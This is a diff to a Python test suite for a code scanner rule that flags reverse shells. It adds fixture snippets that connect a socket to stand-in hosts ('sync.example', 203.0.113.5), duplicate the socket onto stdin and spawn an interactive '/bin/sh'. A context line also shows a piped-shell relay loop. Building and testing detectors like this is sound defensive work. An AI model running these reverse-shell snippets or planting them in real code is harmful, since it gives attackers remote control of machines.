@@ -146,7 +146,32 @@ def test_backdoor_reverse_shell_streams_duplicated_in_a_loop_and_a_piped_shell_r
             shell.stdin.write(sock.recv(1024))
             sock.send(shell.stdout.read1(65536))
     """
-    assert [line for rule, line in found(source) if rule == "backdoor.reverse-shell"] == [7, 10]
+    # the dup2 and the spawn; the piped shell and the send relaying its output
+    assert [line for rule, line in found(source) if rule == "backdoor.reverse-shell"] == [6, 7, 10, 13]
+
+
+def test_backdoor_reverse_shell_reported_at_the_connection_and_the_duplicated_descriptor():
+    source = """
+    import os, socket, subprocess
+    sock = socket.create_connection(('sync.example', 8443))
+    os.dup2(sock.fileno(), 0)
+    subprocess.call(['/bin/sh', '-i'])
+    other = socket.socket()
+    other.connect(('203.0.113.5', 9001))
+    """
+    lines = [line for rule, line in found(source) if rule == "backdoor.reverse-shell"]
+    assert lines == [3, 4, 5, 7]
+
+
+def test_a_socket_and_a_redirected_log_descriptor_without_a_shell_are_no_reverse_shell():
+    source = """
+    import os, socket
+    sock = socket.create_connection(('sync.example', 8443))
+    os.dup2(sock.fileno(), 0)
+    os.dup2(log.fileno(), 2)
+    sock.send(process.stdout.read())
+    """
+    assert "backdoor.reverse-shell" not in rules(source)
 
 
 def test_network_literal_ip_connection_through_names_folded_tuples_and_obscured_spellings():
